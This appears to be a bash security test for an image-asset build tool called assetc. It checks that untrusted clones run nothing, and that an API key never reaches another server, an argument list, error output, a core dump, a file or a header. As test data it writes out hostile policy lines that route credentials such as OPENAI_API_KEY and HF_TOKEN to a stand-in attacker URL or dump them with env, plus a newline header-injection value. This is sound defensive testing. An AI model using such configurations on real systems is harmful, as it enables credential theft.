#!/usr/bin/env bash
# A clone that nobody agreed to buys nothing and runs nothing, and no key goes where it does not belong: not to another server,
# not into a file, an argument list, an error or a core.
. "$ASSETC_SOURCE_DIR/tests/support/buy-lib.sh"
. "$support/buy-kill.sh"
need strings
key=sk-planted-7f3a9c5e1d
buy_begin --set openai.delay=0 --set openai.key=$key
export OPENAI_API_KEY=$key

# ---- an untrusted clone

mkdir clone && cd clone
cat >assets.policy.yaml <<-'END_OF_POLICY'
	commands: {touch: {argv: [/usr/bin/env, touch, ran]}}
END_OF_POLICY
drawing coin 'a coin'
cat >worker.yaml <<-'END_OF_SPEC'
	version: "1.0"
	id: worker
	generation: {type: image, provider: exec, command: touch}
	prompt: {base: x}
END_OF_SPEC
for command in 'coin.yaml -o out/coin.asset.json' 'worker.yaml -o out/worker.asset.json' 'build . --out-dir out' 'fetch coin.yaml' \
	'coin.yaml -o out/coin.asset.json --budget 5' 'build . --out-dir out --budget 5'; do
	run 4 $command
	says 'assetc trust'
done
calls 'of an untrusted clone' 0
is_absent ran out/coin.asset.json out/images
run 0 trust -n
for words in openai OPENAI_API_KEY "$FAKE_URL/openai/v1" touch; do
	grep -qF -e "$words" "$out" || problem "trust does not show $words: $(cat "$out")"
done
grep -qF $key "$out" && problem 'trust shows the key'
run 0 trust
run 0 coin.yaml -o out/coin.asset.json
calls 'of a trusted one' 1
echo '# another word' >>assets.policy.yaml
drawing coin 'another coin'
run 4 coin.yaml -o out/coin.asset.json
calls 'of one whose policy was edited' 1
run 0 coin.yaml -o out/coin.asset.json --trust
calls 'of --trust' 2

# ---- hostile project files, agreed to by somebody who did not look

attacker=$FAKE_ELSEWHERE_URL/v1
number=0
while IFS= read -r policy; do
	number=$((number + 1))
	printf '%s\n' "$policy" >assets.policy.yaml
	drawing victim "victim $number"
	before=$(fake_requests elsewhere | wc -l)
	code=0
	"$ASSETC" victim.yaml -o out/victim.asset.json --trust >"$out" 2>"$err" </dev/null || code=$?
	[ "$code" -ne 0 ] || problem "'$policy' is taken"
	grep -qF $key "$err" && problem "the key is told: $policy"
	fake_requests elsewhere | jq -r '.headers[][1]' | grep -qF $key && problem "the key went elsewhere: $policy"
	same "calls to an attacker: $policy" "$(fake_requests elsewhere | wc -l)" "$before"
done <<-END_OF_POLICIES
	endpoints: {openai: {base_url: "$attacker", key_env: OPENAI_API_KEY}}
	{endpoints: {mine: {base_url: "$attacker", key_env: OPENAI_API_KEY, driver: openai}}, providers: {openai: {endpoint: mine}}}
	{endpoints: {mine: {base_url: "http://example.invalid/v1", key_env: ASSETC_KEY_MINE, driver: openai}}, providers: {openai: {endpoint: mine}}}
	commands: {c: {argv: [env], env: [OPENAI_API_KEY]}}
	commands: {c: {argv: [env], env: [SCENARIO_SDK_API_SECRET]}}
	commands: {c: {argv: [env], env: [FIREFLY_SERVICES_CLIENT_SECRET]}}
	commands: {c: {argv: [env], env: [HF_TOKEN]}}
	endpoints: {mine: {base_url: "$attacker", key_env: HF_TOKEN, driver: huggingface}}
	endpoints: {mine: {base_url: "$attacker", key_env: SCENARIO_API_SECRET, driver: scenario}}
	endpoints: {mine: {base_url: "$attacker", key_env: SDWEBUI_AUTH, driver: sdwebui}}
	{commands: {c: {argv: [env], env: [ASSETC_KEY_MINE]}}, endpoints: {mine: {base_url: "$attacker", key_env: ASSETC_KEY_MINE, driver: openai}}}
END_OF_POLICIES
rm assets.policy.yaml
# Specs name no server at all.
for member in 'base_url: "http://127.0.0.1:9"' 'endpoint: mine' 'key_env: HOME'; do
	drawing victim 'a victim' '' "$member"
	run 1 victim.yaml -o out/victim.asset.json
done

# ---- redirects, result URLs and answers that tell the key again

cd ..
tell_key="Incorrect API key provided: $key."
for steps in 'redirect 307' 'redirect 302' "redirect 308 to=$FAKE_URL/stability/v1/images/generations" url 'url redirect' \
	"{\"do\": \"401\", \"body\": \"{\\\"error\\\": {\\\"message\\\": \\\"$tell_key\\\", \\\"code\\\": \\\"invalid_api_key\\\"}}\"}" \
	"{\"do\": \"400\", \"body\": \"{\\\"error\\\": {\\\"message\\\": \\\"$tell_key\\\", \\\"type\\\": \\\"$key\\\"}}\"}" \
	"{\"do\": \"ok\", \"headers\": {\"x-request-id\": \"$key\"}}"; do
	number=$((number + 1))
	drawing thing "thing $number"
	fake_script openai "$steps"
	"$ASSETC" thing.yaml -o out/thing.asset.json -v --diag=json >"said.$number" 2>&1 </dev/null || :
	"$ASSETC" thing.yaml -o out/thing.asset.json -v >"said.again.$number" 2>&1 </dev/null || :
done
same leaks "$(fake_read leaks)" ''

# ---- nowhere in what is left or shown; while it runs, in no argument list

cat >"$TMPDIR/look.sh" <<-'END_OF_WORKER'
	#!/bin/sh
	env >environment.of.worker
	exit 1
END_OF_WORKER
chmod +x "$TMPDIR/look.sh"
cat >assets.policy.yaml <<-END_OF_POLICY
	commands: {look: {argv: ["$TMPDIR/look.sh"]}}
END_OF_POLICY
run 0 trust
mkdir both
drawing both/slow 'a slow one'
cat >both/worker.yaml <<-'END_OF_SPEC'
	version: "1.0"
	id: worker
	generation: {type: image, provider: exec, command: look}
	prompt: {base: x}
END_OF_SPEC
fake_script openai 'stall told'
before=$(fake_requests openai | wc -l)
(ulimit -c unlimited 2>/dev/null || :
	exec setsid "$ASSETC" build both --out-dir out -v >background.out 2>background.err </dev/null) &
driver=$!
fake_await $((before + 1)) openai
find_helper
[ -n "$helper" ] || problem 'nobody buys'
for pid in $driver $helper; do
	tr '\0' ' ' <"/proc/$pid/cmdline" | grep -qF $key && problem 'the key is in an argument list'
done
tr '\0' '\n' <"/proc/$driver/environ" | grep -qF $key && problem 'the key is still in the environment of what decodes'
grep -q '0 *0 ' <(grep 'core file' "/proc/$driver/limits") || problem "the driver may write a core: $(grep core "/proc/$driver/limits")"
grep -q '0 *0 ' <(grep 'core file' "/proc/$helper/limits" 2>/dev/null || echo 'core file 0 0 ') || problem 'the helper may write a core'
# Whoever is not dumpable shows nothing of itself to others of its user.
kill -ABRT "$helper" "$driver" 2>/dev/null || :
fake_say release
ended any
find . "$TMPDIR" -name 'core*' -type f ! -path "$fake_dir/*" | grep . && problem 'there is a core file'
[ ! -e environment.of.worker ] || ! grep -qF $key environment.of.worker || problem 'a program was given the key'
run 0 ledger resolve --all --not-billed
run 0 ledger export
cp "$out" exported
run 0 ledger export --json
cp "$out" exported.json
for command in 'ledger show' 'health --json' 'providers' 'budget'; do
	run 0 $command
	grep -qF $key "$out" "$err" && problem "the key is in what '$command' says"
done
found=$(grep -rlaF $key . "$XDG_CACHE_HOME" "$XDG_STATE_HOME" "$XDG_CONFIG_HOME" "$XDG_DATA_HOME" "$HOME" 2>/dev/null || :)
[ -z "$found" ] || problem "the key was written to $found"
found=$(find "$TMPDIR" -path "$fake_dir" -prune -o -type f -print0 | xargs -0 grep -laF $key 2>/dev/null || :)
[ -z "$found" ] || problem "the key was written to $found"

# ---- keys with what does not belong into a header

for bad in $'sk-a\nX-Evil: 1' $'sk-a\rb' ''; do
	drawing thing "a thing ${#bad}"
	before=$(fake_requests | wc -l)
	OPENAI_API_KEY=$bad run 5 thing.yaml -o out/thing.asset.json
	same 'requests with a key that is none' "$(fake_requests | wc -l)" "$before"
done
